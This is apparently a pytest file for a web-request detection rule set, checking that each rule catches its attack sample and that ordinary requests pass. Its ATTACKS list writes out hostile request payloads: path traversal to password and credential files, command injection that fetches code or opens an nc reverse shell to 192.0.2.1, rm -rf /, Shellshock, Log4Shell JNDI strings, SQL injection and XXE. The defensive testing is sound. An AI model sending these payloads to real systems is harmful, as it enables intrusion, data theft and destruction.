# SPDX-License-Identifier: Apache-2.0
"""The shipped rules: each matches what it is for, none diverts ordinary requests."""

from __future__ import annotations

import json
import re

import pytest
import rule_reference

from securedirect.rules import DEFAULT_RULES, load_rule_files

# What each rule is for, as (sid, request line and what follows of the head, body).
ATTACKS = [
    (9000001, "GET /view?f=../../../secret.txt"),
    (9000002, "GET /view?f=..%2F..%2fsecret"),
    (9000003, "GET /static/%2e%2e/%2E%2e/secret"),
    (9000004, "GET /static/%2e%2e%2fsecret"),
    (9000005, "GET /cgi-bin/.%2e/.%2e/bin/sh"),
    (9000006, "GET /view?f=..\\..\\boot"),
    (9000007, "GET /view?f=..%5c..%5Cboot"),
    (9000008, "GET /scripts/..%255c../winnt/x"),
    (9000009, "GET /scripts/..%c0%af../winnt/x"),
    (9000010, "GET /tmui/login.jsp/..;/tmui/x"),
    (9000020, "GET /view?f=/etc/passwd"),
    (9000020, "GET /view?f=..%2f..%2fetc%2fpasswd"),
    (9000020, "GET /etc/passwd"),
    (9000021, "GET /view?f=file:///etc/shadow".replace("file://", "")),
    (9000022, "GET /view?f=/proc/self/environ"),
    (9000023, "GET /view?f=..\\..\\boot.ini"),
    (9000030, "GET /scripts/winnt/system32/cmd.exe?/c+dir"),
    (9000031, "GET /scripts/root.exe?/c+dir"),
    (9000032, "GET /cgi-bin/phf?Qalias=x%0a/bin/cat"),
    (9000033, "GET /ping?host=1.1.1.1;cat%20/etc/hosts"),
    (9000046, "GET /ping?host=`id`"),
    (9000042, "GET /ping?host=$(wget%20http://192.0.2.1/x)"),
    (9000040, "GET /ping?host=1.1.1.1|/usr/bin/id"),
    (9000041, "GET /ping?host=1.1.1.1;uname%20-a"),
    (9000043, "GET /ping?host=1.1.1.1;curl%20http://192.0.2.1/x"),
    (9000044, "GET /ping?host=1.1.1.1;nc%20-e%20/bin/sh%20192.0.2.1%201"),
    (9000045, "GET /ping?host=1.1.1.1;rm%20-rf%20/"),
    (9000034, "GET /run?c=/bin/sh+-c+ls"),
    (9000035, "GET /run?c=cat${IFS}/etc/hosts"),
    (9000036, "GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.1/x"),
    (9000037, "POST /ping", "host=1.1.1.1%3Bwget+http%3A%2F%2F192.0.2.1%2Fx"),
    (9000038, "GET / \nUser-Agent: () { :; }; /bin/id"),
    (9000039, "GET / \nCookie: a=() { :; }; id"),
    (9000050, "POST /index.php?page=php://input"),
    (9000051, "GET /index.php?page=data://text/plain;base64,AAAA"),
    (9000052, "POST /?-d+allow_url_include%3don"),
    (9000053, "POST /?-d+auto_prepend_file%3dx"),
    (9000054, "GET /?x=%3C?php+system('id')"),
    (9000055, "POST /upload.php", "z=eval(base64_decode($_POST[1]))"),
    (9000056, "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
    (9000057, "GET /?s=/index/think/app/invokefunction&function=call_user_func_array&vars[0]=phpinfo"),
    (9000058, "GET /images/c99.php"),
    (9000059, "GET /shell.php?cmd=ls"),
    (9000060, "GET /index.php?page=expect://id"),
    (9000061, "GET /index.php?page=phar://x.jpg/y"),
    (9000062, "GET /up.jsp?c=ls"),
    (9000063, "GET /cmd.aspx?exec=ls"),
    (9000064, "GET /backdoor.cgi?command=ls"),
    (9000070, "GET /item?id=1+UNION+ALL+SELECT+NULL,NULL--"),
    (9000070, "GET /item?id=1%27/**/union/**/select/**/1,2"),
    (9000071, "POST /item", "id=1+union+select+1%2C2"),
    (9000072, "GET /item?id=1+and+(select+1+from+information_schema.tables)"),
    (9000073, "GET /login?u=%27+or+1=1--"),
    (9000073, "GET /login?u=admin%27+OR+%271%27=%271"),
    (9000074, "GET /item?id=1+and+sleep(5)"),
    (9000078, "GET /item?id=1;waitfor%20delay%20'0:0:5'"),
    (9000075, "GET /item?id=1;exec+master..xp_cmdshell+'dir'"),
    (9000076, "GET /item?id=1+union+select+'x'+into+outfile+'/tmp/x'"),
    (9000077, "GET /item?id=extractvalue(1,concat(0x7e,version()))"),
    (9000080, "GET /?x=${jndi:ldap://192.0.2.1/a}"),
    (9000081, "GET / \nX-Api: ${jndi:ldap://192.0.2.1/a}"),
    (9000082, "GET / \nCookie: a=${JNDI:rmi://192.0.2.1/a}"),
    (9000083, "POST /", '{"user":"${jndi:ldap://192.0.2.1/a}"}'),
    (9000084, "GET / \nX-Api: ${${lower:j}ndi:ldap://192.0.2.1/a}"),
    (9000085, "GET /?x=${${::-j}${::-n}di:ldap://192.0.2.1/a}"),
    (9000086, "POST / \nContent-Type: %{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@x)}"),
    (9000087, "GET /index.action?redirect:${%23_memberAccess}"),
    (9000088, "GET /?x=${T(java.lang.Runtime).getRuntime()}"),
    (9000089, "GET /?class.module.classLoader.resources=x"),
    (9000090, "POST /", "class.module.classLoader.resources=x"),
    (
        9000091,
        "POST /wls-wsat/CoordinatorPortType",
        '<java><object class="java.lang.ProcessBuilder"/></java>',
    ),
    (9000093, "POST /_async/AsyncResponseService", '<object class="java.lang.ProcessBuilder"/>'),
    (9000092, "POST /xml", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'),
    (9000100, "GET /setup.cgi?next_file=x&todo=syscmd&cmd=ls"),
    (9000101, "POST /GponForm/diag_Form?images/"),
    (9000102, "GET /default.ida?" + "N" * 60),
    (9000200, "GET /robots.txt"),
    (9000201, "GET /.git/config"),
    (9000202, "GET /.env"),
    (9000203, "GET /wp-config.php.bak"),
    (9000210, "GET /.htpasswd"),
    (9000211, "GET /.aws/credentials"),
    (9000212, "GET /home/.ssh/id_rsa"),
    (9000213, "GET /jolokia/list"),
    (9000214, "GET /manager/html"),
    (9000215, "GET /solr/admin/info"),
    (9000216, "GET /_cat/indices"),
    (9000204, "GET /server-status"),
    (9000205, "GET /actuator/env"),
    (9000206, "GET / \nUser-Agent: sqlmap/1.7"),
    (9000207, "GET /?q=<script>alert(1)</script>"),
    (9000208, "TRACE /"),
]

ORDINARY = [
    "GET /",
    "GET /index.html?utm_source=news&utm_medium=e-mail",
    "GET /search?q=union+square+select+hotels",
    "GET /search?q=select+a+union+from+the+list",
    "GET /search?q=O%27Reilly+and+sons+%26+co",
    "GET /search?q=it%27s+5+%3D+five",
    "GET /search?q=rm+-rf+meaning",
    "GET /search?q=what+is+cmd.exe",
    "GET /search?q=how+to+read+etc+passwd",
    "GET /search?q=cat+food;+dog+food",
    "GET /search?q=price+%3C+100+and+size+%3E+5",
    "GET /search?q=100%25+cotton",
    "GET /wiki/Union_(SQL)?action=edit",
    "GET /wiki/../index.html",
    "GET /files/My%20Document%20(final).pdf",
    "GET /a/b/../../style.css",
    "GET /api/v1/items?filter=name%20eq%20%27x%27&$orderby=id",
    "GET /api/v1/items?ids[]=1&ids[]=2",
    "GET /login?next=%2Fadmin%2F",
    "GET /calendar?when=sleep(early)",
    "GET /php/manual/en/function.eval.php",
    "GET /.well-known/acme-challenge/token",
    "GET /favicon.ico",
    "GET /robots.txt",
    "GET /wp-admin/load-scripts.php?c=1&load[]=jquery-core,utils",
    "GET /wp-login.php",
    "GET /shop?price=10-20&sort=-date",
    "POST /login|user=ann&pass=pa%27ss%26word%3B",
    "POST /comment|text=I+think+that+%22select%22+is+better+than+%22union%22%3B+don%27t+you%3F",
    "POST /comment|text=use+wget+or+curl+to+fetch+http%3A%2F%2Fexample.org",
    'POST /api|{"query":"{ user(id: 1) { name } }","price":"${amount}"}',
    'POST /upload|<?xml version="1.0"?><!DOCTYPE html><p>text</p>',
    'PUT /api/items/7|{"name":"a;b|c"}',
    "DELETE /api/items/7",
    "OPTIONS *",
]

BROWSER = (
    "Host: www.example.org\n"
    "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\n"
    "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\n"
    "Accept-Language: en-US,en;q=0.5\nAccept-Encoding: gzip, deflate\n"
    "Referer: http://www.example.org/a?b=c&d=e\nCookie: s=0f; theme={%22a%22:1}\n"
    "Connection: keep-alive\n"
)


def request(text, body=""):
    line, _, own = text.partition("\n")
    head = own + "\n" if own else ""
    if "User-Agent" not in head:
        head += BROWSER if "Cookie" not in head else "Host: h\n"
    if body:
        head += f"Content-Length: {len(body)}\n"
    return (line.strip() + " HTTP/1.1\n" + head + "\n").replace("\n", "\r\n").encode() + body.encode()


@pytest.fixture(scope="module")
def rules():
    report = load_rule_files([DEFAULT_RULES])
    report.raise_if_broken()
    return json.loads(report.document)["rules"]


def met(rules, data):
    found = rule_reference.buffers(data)
    return {rule["sid"]: rule["action"] for rule in rules if rule_reference.matches(rule, found)}


@pytest.mark.parametrize("case", ATTACKS, ids=[f"{case[0]}-{i}" for i, case in enumerate(ATTACKS)])
def test_each_rule_matches_what_it_is_for(rules, case):
    sid, *parts = case
    assert sid in met(rules, request(*parts))


def test_every_rule_has_its_case(rules):
    # Those from 9001000 on have theirs in tests/traffic/attacks.py.
    assert {rule["sid"] for rule in rules if rule["sid"] < 9001000} == {case[0] for case in ATTACKS}


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_requests_are_not_diverted(rules, text):
    line, _, body = text.partition("|")
    assert "divert" not in met(rules, request(line, body)).values()


def test_looking_around_does_not_divert_by_itself(rules):
    looking = [rule["action"] for rule in rules if 9000200 <= rule["sid"] < 9000300]
    assert "divert" not in looking
    assert {rule["action"] for rule in rules if not 9000200 <= rule["sid"] < 9001000} == {"divert"}


def test_form_of_the_file():
    report = load_rule_files([DEFAULT_RULES])
    assert {entry.status for entry in report.entries} == {"loaded"}
    sids = [entry.sid for entry in report.entries]
    assert len(set(sids)) == len(sids) and all(9000001 <= sid <= 9001999 for sid in sids)
    assert all(entry.msg.startswith("SD ") and entry.rev and entry.classtype for entry in report.entries)
    assert not re.search(rb"[^\x20-\x7e\n]", DEFAULT_RULES.read_bytes())
